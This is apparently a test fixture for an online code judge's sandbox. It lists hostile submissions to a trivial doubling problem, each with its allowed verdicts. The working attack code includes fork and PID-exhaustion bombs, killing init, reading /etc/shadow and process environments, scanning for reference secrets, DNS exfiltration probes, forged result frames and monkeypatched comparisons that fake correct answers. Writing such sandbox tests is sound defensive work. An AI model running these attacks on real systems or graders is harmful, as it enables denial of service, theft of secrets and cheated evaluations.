"""Hostile submissions for the test problem `f(x) = 2x`, each with the verdicts it may get.

Every entry is real attack code a learner could submit. `verdicts` is what the judge may
answer; only entries whose code also computes 2x correctly may be AC. `__PORT__` in a
source is replaced by the port of a server the test listens on in the host's loopback. No
entry names a real host: the network ones reach for the host itself or a resolver the
container is given, and any name they use is under .invalid (RFC 2606).
The reference of the test problem carries MARKER, which must never reach a report.
"""

from __future__ import annotations

from dataclasses import dataclass

MARKER = "REFERENCE-SECRET-7f3a9c"
HOST_SECRET_ENV = "JUDGE_TEST_HOST_SECRET"
HOST_SECRET = "host-secret-e41b27d5"


@dataclass(frozen=True)
class Hostile:
    name: str
    source: str
    verdicts: frozenset[str]
    # Strings that must not appear anywhere in the report (besides MARKER and HOST_SECRET).
    must_not_leak: tuple[str, ...] = ()


def _h(name: str, verdicts: str, source: str) -> Hostile:
    return Hostile(name, source.strip() + "\n", frozenset(verdicts.split()))


# A job can find the runner's result stream among its own descriptors and write frames into
# it. Each frame below made the judge's parser raise (a foreign exception, retried three
# times, then SE with a Python error shown); the stream is damaged, which is RE, once.
_FORGE = """
import json, os, struct
def frame(head, blob=b""):
    head = head if isinstance(head, bytes) else json.dumps(head).encode()
    return struct.pack(">4sIQ", b"JDG1", len(head), len(blob)) + head + blob
def f(x):
    data = __FRAME__
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, data)
            except OSError:
                pass
    return x * 2
"""
_CASE = '{"kind": "case", "solution": 0, "case": "double", "status": "ok"'
_FORGED_FRAMES = {
    # json.loads refuses integers of more than 4300 digits with a plain ValueError.
    "5000_digit_int": "frame(b'" + _CASE + ", \"time_ms\": 1' + b'0' * 5000 + b'}')",
    # float(10**400) overflows where a time or a float observation is read.
    "float_overflow": 'frame({"kind": "case", "solution": 0, "case": "double", "status": "ok", '
    '"time_ms": 10**400, "obs": {"t": "float", "v": 10**400}})',
    # No bytes, but a shape whose size overflows torch's arithmetic.
    "enormous_shape": 'frame({"kind": "case", "solution": 0, "case": "double", "status": "ok", '
    '"time_ms": 1, "obs": {"t": "tensor", "k": "0"}}, '
    '(lambda h: struct.pack("<Q", len(h)) + h)(json.dumps({"0": {"dtype": "F32", '
    '"shape": [0, 2**39, 2**39, 2**39], "data_offsets": [0, 0]}}).encode()))',
}

HOSTILE: list[Hostile] = [
    # --- processes and threads ---------------------------------------------------------
    _h(
        "fork_bomb",
        "TLE RE",
        """
import os
def f(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    ),
    _h(
        "thread_bomb",
        "RE TLE",
        """
import threading, time
def f(x):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
""",
    ),
    _h(
        "daemon_outlives_run",
        "WA",
        """
import os, time
def f(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    open('/tmp/still-alive', 'w').write(str(time.time()))
                except OSError:
                    pass
                time.sleep(0.1)
        os._exit(0)
    return x * 3
""",
    ),
    _h(
        "kill_parent_and_pid1",
        "WA RE",
        """
import os, signal
def f(x):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return x * 3
""",
    ),
    _h(
        "sigstop_self",
        "TLE",
        """
import os, signal
def f(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    return x * 2
""",
    ),
    _h(
        "ignore_sigterm_and_sleep",
        "TLE",
        """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
def f(x):
    time.sleep(3600)
""",
    ),
    _h(
        "ptrace_pid1",
        "RE",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    PTRACE_ATTACH = 16
    if libc.ptrace(PTRACE_ATTACH, 1, 0, 0) == 0:
        return x * 2  # attached to init: the sandbox failed, and this would pass
    raise PermissionError(f"ptrace refused: errno {ctypes.get_errno()}")
""",
    ),
    _h(
        "setuid_root",
        "RE",
        """
import os
def f(x):
    os.setuid(0)
    return x * 2
""",
    ),
    _h(
        "mount_syscall",
        "RE",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def f(x):
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        return x * 2
    raise PermissionError(f"mount refused: errno {ctypes.get_errno()}")
""",
    ),
    _h(
        "clone_parent_siblings",
        "AC",
        # Siblings instead of children: in a fork-server container their parent is the server,
        # and each one that exits is a zombie the server never reaped. 200 of them used up the
        # container's pids (the job's own limit counts them only while they live unreaped, so
        # one job leaves up to its limit, 64) while it still called itself fit. (PyDLL keeps the GIL across the
        # call, so the copy can run os._exit.)
        """
import ctypes, os, platform
libc = ctypes.PyDLL(None, use_errno=True)
SYS_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
CLONE_PARENT, SIGCHLD = 0x00008000, 17
done = []
def f(x):
    if not done:
        for _ in range(100):  # a fork of a process holding torch takes a few ms
            if libc.syscall(SYS_CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0:
                os._exit(0)
        done.append(1)
    return x * 2
""",
    ),
    _h(
        "clone_parent_sleepers_then_timeout",
        "TLE",
        # Live siblings that outlast the job, then a time-out: the server must kill them,
        # reap them, and still have a process to spare for its kill helper.
        """
import ctypes, os, platform, time
libc = ctypes.PyDLL(None, use_errno=True)
SYS_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
CLONE_PARENT, SIGCHLD = 0x00008000, 17
def f(x):
    for _ in range(200):
        if libc.syscall(SYS_CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0:
            time.sleep(3600)
            os._exit(0)
    while True:
        pass
""",
    ),
    # --- memory ----------------------------------------------------------------------------
    _h(
        "heap_bomb",
        "MLE",
        """
keep = []
def f(x):
    while True:
        keep.append(b"x" * 10_000_000)
""",
    ),
    _h(
        "tensor_bomb",
        "MLE",
        """
import torch
keep = []
def f(x):
    while True:
        keep.append(torch.ones(10_000_000))
""",
    ),
    _h(
        "dev_shm_bomb",
        "RE MLE",
        """
def f(x):
    with open('/dev/shm/bomb', 'wb') as out:
        while True:
            out.write(b'x' * 1_000_000)
""",
    ),
    _h(
        "tmpfs_bomb",
        "RE MLE",
        """
import itertools
def f(x):
    for i in itertools.count():
        with open(f'/tmp/bomb{i}', 'wb') as out:
            for _ in range(8):
                out.write(b'x' * 1_000_000)
""",
    ),
    _h(
        "gigabyte_output_tensor",
        "MLE OLE",
        """
import torch
def f(x):
    return torch.zeros(2**28)
""",
    ),
    # --- time ------------------------------------------------------------------------------
    _h(
        "cpu_spin",
        "TLE",
        """
def f(x):
    while True:
        pass
""",
    ),
    _h(
        "sleep",
        "TLE",
        """
import time
def f(x):
    time.sleep(3600)
""",
    ),
    _h(
        "import_time_infinite_loop",
        "TLE",
        """
while True:
    pass
def f(x):
    return x * 2
""",
    ),
    _h(
        "deep_recursion",
        "RE",
        """
def f(x):
    def down(n):
        return down(n + 1) + 1
    return down(0)
""",
    ),
    _h(
        "c_stack_overflow",
        "RE MLE",
        """
import sys
sys.setrecursionlimit(10**8)
class Deep:
    def __repr__(self):
        return repr(Deep())  # each level goes through C code, on the C stack
def f(x):
    return repr(Deep())
""",
    ),
    # --- output ----------------------------------------------------------------------------
    _h(
        "huge_stdout",
        "OLE",
        """
def f(x):
    while True:
        print("spam" * 250)
""",
    ),
    _h(
        "huge_stderr",
        "OLE",
        """
import sys
def f(x):
    while True:
        sys.stderr.write("spam" * 250 + "\\n")
""",
    ),
    _h(
        "binary_garbage_on_stdout",
        "AC",
        """
import os, sys
sys.stdout.buffer.write(os.urandom(4096) + b"\\x00\\xff JDG1")
sys.stdout.flush()
def f(x):
    return x * 2
""",
    ),
    _h(
        "garbage_into_result_stream",
        "RE",
        """
import os
def f(x):
    for fd in os.listdir('/proc/self/fd'):
        if int(fd) > 2:
            try:
                os.write(int(fd), os.urandom(512))
            except OSError:
                pass
    return x * 2
""",
    ),
    *(
        Hostile(
            f"forged_frame_{what}",
            _FORGE.replace("__FRAME__", frame).strip() + "\n",
            frozenset({"RE"}),
            ("ValueError", "OverflowError", "RuntimeError", "Traceback", "Exceeds the limit"),
        )
        for what, frame in _FORGED_FRAMES.items()
    ),
    # Only a "done" frame, then the exit of a finished runner: the judge took the run for
    # finished and gave every case it lacked SE, the judge's fault.
    _h(
        "forged_done_then_exit",
        "RE",
        """
import json, os, struct
def f(x):
    head = json.dumps({"kind": "done"}).encode()
    frame = struct.pack(">4sIQ", b"JDG1", len(head), 0) + head
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, frame)
            except OSError:
                pass
    os._exit(0)
""",
    ),
    # A dtype the result stream cannot carry: the runner failed writing the frame (exit 70),
    # which blamed the runner's stream for every case.
    Hostile(
        "unreturnable_dtype",
        "import torch\ndef f(x):\n    return (x * 2).to(torch.float8_e4m3fn)\n",
        frozenset({"RE"}),
        ("did it close", "runner failed"),
    ),
    _h(
        "fake_ac_report_then_exit",
        "RE",
        """
import json, os
def f(x):
    report = json.dumps({"verdict": "AC", "score": 100, "max_score": 100, "cases": []}).encode()
    for fd in range(1, 10):
        try:
            os.write(fd, report + b"JDG1" + bytes(12))
        except OSError:
            pass
    os._exit(0)
""",
    ),
    _h(
        "close_result_stream",
        "RE",
        """
import os
def f(x):
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return x * 2
""",
    ),
    _h(
        "disk_fill",
        "RE",
        """
def f(x):
    for path in ('/judge-was-here', '/usr/judge-was-here', '/opt/judge/judge/grading.py'):
        try:
            open(path, 'w').write('pwned')
        except OSError:
            pass
    with open('/tmp/big', 'wb') as out:
        while True:
            out.write(b'x' * 1_000_000)
""",
    ),
    _h(
        "plant_links_and_fifos_then_answer",
        "AC",
        """
import os
for path in ('/tmp/result', '/tmp/out.frames', '/tmp/report.json'):
    try:
        os.symlink('/etc/passwd', path)
    except OSError:
        pass
for path in ('/tmp/fifo', '/tmp/results'):
    try:
        os.mkfifo(path)
    except OSError:
        pass
try:
    os.symlink('/proc/1/fd/1', '/tmp/stdout-of-init')
except OSError:
    pass
def f(x):
    return x * 2
""",
    ),
    # --- what a job leaves for the next one ------------------------------------------------
    _h(
        "mqueue_drop",
        "WA",
        # Docker mounts a writable mqueue filesystem at /dev/mqueue: a queue made there with
        # open(2) (mq_open was refused, mq_timedsend on the descriptor was not) stayed in a fork
        # server, and the next learner's job read it. Right (AC) only if the job could leave a
        # queue there or read a message an earlier job left, by path or by name.
        """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
MQ_OPEN, MQ_SEND, MQ_RECEIVE = {"x86_64": (240, 242, 243), "aarch64": (180, 182, 183)}[platform.machine()]
NAMES = ("judge-drop-open", "judge-drop-mq")
state = []
def read_left():
    try:
        names = set(os.listdir("/dev/mqueue")) | set(NAMES)
    except OSError:
        names = set(NAMES)
    got = []
    buf = ctypes.create_string_buffer(8192)
    for name in names:
        fds = [libc.syscall(MQ_OPEN, name.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)]
        try:
            fds.append(os.open("/dev/mqueue/" + name, os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            pass
        for fd in fds:
            while fd >= 0 and (n := libc.syscall(MQ_RECEIVE, fd, buf, 8192, None, None)) >= 0:
                got.append(buf.raw[:n])
    return got
def leave():
    message = b"left by another learner"
    try:
        fd = os.open("/dev/mqueue/" + NAMES[0], os.O_CREAT | os.O_RDWR, 0o666)
        os.fchmod(fd, 0o666)
        libc.syscall(MQ_SEND, fd, message, len(message), 0, None)
    except OSError:
        pass
    fd = libc.syscall(MQ_OPEN, NAMES[1].encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    if fd >= 0:
        libc.syscall(MQ_SEND, fd, message, len(message), 0, None)
def f(x):
    if not state:
        stolen = read_left()
        leave()
        try:
            visible = os.listdir("/dev/mqueue")
        except OSError:
            visible = []
        state.append(bool(stolen or visible))
    return x * 2 if state[0] else x * 3
""",
    ),
    # --- network ---------------------------------------------------------------------------
    # The host as the container could see it: its loopback (host networking) and the default
    # gateway of the container's routes (a bridge, or a user-mode network's host address).
    _h(
        "connect_to_host_loopback",
        "RE",
        """
import socket, struct
def gateways():
    try:
        with open('/proc/net/route') as routes:
            rows = [line.split() for line in routes][1:]
    except OSError:
        return []
    return [socket.inet_ntoa(struct.pack('<L', int(r[2], 16))) for r in rows if len(r) > 2 and r[1] == '00000000']
def f(x):
    for host in ['127.0.0.1', *gateways()]:
        try:
            with socket.create_connection((host, __PORT__), timeout=1) as s:
                s.sendall(b'pwned')
                return x * 2
        except OSError:
            pass
    raise ConnectionError('no way out')
""",
    ),
    # A DNS query to each resolver the container is given, for a name under .invalid (RFC 2606):
    # any answer, even "no such name", means a resolver is reachable, and DNS carries data out.
    _h(
        "dns_query",
        "RE",
        """
import socket, struct
def f(x):
    try:
        with open('/etc/resolv.conf') as conf:
            servers = [w[1] for w in (line.split() for line in conf) if len(w) > 1 and w[0] == 'nameserver']
    except OSError:
        servers = []
    name = b''.join(bytes([len(label)]) + label for label in (b'judge-exfil', b'invalid')) + bytes(1)
    query = struct.pack('>HHHHHH', 0x4A44, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
    for server in servers:
        try:
            with socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(query, (server, 53))
                if s.recv(512)[:2] == query[:2]:
                    return x * 2
        except OSError:
            pass
    raise ConnectionError('no resolver answered')
""",
    ),
    _h(
        "raw_socket",
        "RE",
        """
import socket
def f(x):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return x * 2
""",
    ),
    # --- secrets ---------------------------------------------------------------------------
    _h(
        "read_etc_shadow",
        "RE",
        """
def f(x):
    raise RuntimeError(open('/etc/shadow').read())
""",
    ),
    _h(
        "steal_reference_and_expected",
        "RE",
        """
import os
def f(x):
    found = []
    for top in ('/', '/tmp', '/opt', '/root', '/home', '/var', '/srv', '/work', '/proc/1/root', '/proc/1/cwd'):
        for base, dirs, files in os.walk(top):
            if base.startswith(('/proc/sys', '/sys', '/usr/lib', '/usr/share', '/usr/local/lib')):
                dirs[:] = []
                continue
            for name in files:
                if name.endswith(('.py', '.frames', '.json', '.safetensors')) and 'dist-packages' not in base:
                    path = os.path.join(base, name)
                    try:
                        text = open(path, errors='replace').read(100_000)
                    except OSError:
                        continue
                    if 'REFERENCE-SECRET' in text or name in ('reference.py', 'cases.py') or name.endswith('.frames'):
                        found.append(path + ':' + text[:2000])
    raise RuntimeError('found: ' + repr(found))
""",
    ),
    _h(
        "dump_environment",
        "RE",
        """
import os
def f(x):
    dump = [repr(dict(os.environ))]
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                dump.append(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace'))
            except OSError:
                pass
    raise RuntimeError(' | '.join(dump))
""",
    ),
    # --- lying about results -----------------------------------------------------------------
    _h(
        "monkeypatch_comparisons",
        "WA",
        """
import torch
import torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
torch.testing.assert_close = lambda *a, **k: None
def f(x):
    return x * 3
""",
    ),
    _h(
        "nan_outputs",
        "WA",
        """
def f(x):
    return x * float('nan')
""",
    ),
    _h(
        "tensor_subclass_liar",
        "WA RE",
        """
import torch
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def tolist(self):
        return [0.0]
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return super().__torch_function__(func, types, args, kwargs or {})
def f(x):
    return (x * 3).as_subclass(Liar)
""",
    ),
    _h(
        "system_exit_in_entry_point",
        "RE",
        """
def f(x):
    raise SystemExit(0)
""",
    ),
    _h(
        "exit_zero_at_import",
        "RE",
        """
import os
os._exit(0)
""",
    ),
]

CORRECT = "def f(x):\n    return x * 2\n"
# What the next learner submits after an attack: correct, and it needs processes of its own
# (threads, a forked child), which is what a container with its pids used up cannot give.
CORRECT_WITH_THREADS = """
import os, threading
def f(x):
    done = []
    # 24 threads: well within the 64 processes a job may have.
    threads = [threading.Thread(target=done.append, args=(i,)) for i in range(24)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    assert len(done) == 24
    return x * 2
""".lstrip()
OVERSIZED = "# padding\n" * 30_000 + CORRECT  # over the 256 KiB source limit
